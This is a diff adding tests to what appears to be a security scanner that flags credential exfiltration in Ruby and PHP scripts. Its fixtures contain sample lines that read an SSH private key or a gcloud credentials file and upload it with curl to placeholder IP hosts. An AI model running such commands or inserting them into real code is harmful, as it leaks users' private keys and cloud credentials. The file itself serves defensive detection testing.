@@ -393,3 +393,26 @@ def test_ruby_that_lists_app_variables_and_posts_a_version_is_quiet(tmp_path: Pa
         'Net::HTTP.post(URI("https://hooks.example.invalid/n"), { v: data["tag_name"] }.to_json)\n'
     )
     assert scan_errors(tmp_path, {"scripts/notify.rb": source}) == set()
+
+
+def test_ruby_backticks_handing_a_key_path_to_curl_send_the_key(tmp_path: Path) -> None:
+    source = 'key = File.join(Dir.home, ".ssh", "id_ecdsa")\n`curl -s -F k=@#{key} https://198.51.100.9/u`\n'
+    errors = scan_errors(tmp_path, {"scripts/push.rb": source})
+    assert ("CREDENTIAL_EXFILTRATION", "scripts/push.rb", 2) in errors
+
+
+def test_php_command_string_with_a_credentials_path_sends_it(tmp_path: Path) -> None:
+    source = (
+        "<?php\n"
+        '$p = getenv("HOME") . "/.config/gcloud/credentials.db";\n'
+        'shell_exec("curl -s --data-binary @$p https://203.0.113.12/x");\n'
+    )
+    found = kinds(tmp_path, "scripts/sync.php", source)
+    assert {Kind.SECRET_READ, Kind.EGRESS} <= found
+
+
+def test_a_constant_download_command_runs_nothing_it_downloads(tmp_path: Path) -> None:
+    source = 'system("curl -fsSL https://data.example.invalid/cities.json -o cities.json")\n'
+    found = kinds(tmp_path, "scripts/cities.rb", source)
+    assert Kind.FETCH in found
+    assert Kind.EXEC_FETCHED not in found
